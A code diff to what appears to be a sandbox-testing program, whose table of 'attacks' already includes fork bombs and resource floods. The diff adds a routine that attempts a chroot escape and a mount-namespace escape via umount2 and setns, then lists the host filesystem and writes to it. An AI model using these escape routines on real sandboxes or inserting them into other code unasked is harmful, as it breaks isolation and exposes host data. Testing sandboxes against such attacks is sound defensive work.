@@ -331,6 +331,39 @@ static int show_files(const char *with) {
   return 0;
 }
 
+/* --- what lies below the root ------------------------------------------------------------------------------------------- */
+
+static void list_all(const char *path) {
+  struct dirent **names;
+  int count = scandir(path[0] == 0 ? "/" : path, &names, NULL, alphasort);
+  for (int i = 0; i < count; i++) {
+    if (names[i]->d_name[0] == '.') continue;
+    char below[4096];
+    snprintf(below, sizeof below, "%s/%.255s", path, names[i]->d_name);
+    struct stat info;
+    bool folder = lstat(below, &info) == 0 && S_ISDIR(info.st_mode);
+    printf("%s%s\n", below, folder ? "/" : "");
+    if (folder) list_all(below);
+  }
+}
+
+/* Out of a root of one's own, up as far as it goes; and with the root taken away, in at the namespace's top again. */
+static int look_below(const char *with) {
+  int namespace = open("/proc/self/ns/mnt", O_RDONLY);
+  if (strcmp(with, "up") == 0) {
+    mkdir("/deep", 0755);
+    say("chroot", chroot("/deep"));
+    for (int i = 0; i < 64; i++) (void)!chdir("..");
+    say("my own program", access("attacker", F_OK));
+    return 0;
+  }
+  say("umount", umount2("/", MNT_DETACH));
+  say("enter", setns(namespace, CLONE_NEWNS));
+  list_all("");
+  say("write", mkdir("/new", 0755));
+  return 0;
+}
+
 static int wait_for_ever(const char *with) {
   (void)with;
   for (;;) pause();
@@ -343,7 +376,8 @@ static const struct {
 } attacks[] = {{"hunt", hunt_processes}, {"cgroups", try_cgroups},           {"sysctls", try_sysctls}, {"devices", try_devices},
                {"tables", try_tables},   {"keys", try_keys},                 {"abstract", list_abstract_sockets},
                {"status", print_status}, {"exec", exec_other},               {"files", flood_files},   {"bytes", flood_bytes},
-               {"bomb", bomb},           {"log", flood_log},                 {"show", show_files}, {"wait", wait_for_ever}};
+               {"bomb", bomb},           {"log", flood_log},                 {"show", show_files},
+               {"below", look_below},    {"wait", wait_for_ever}};
 
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
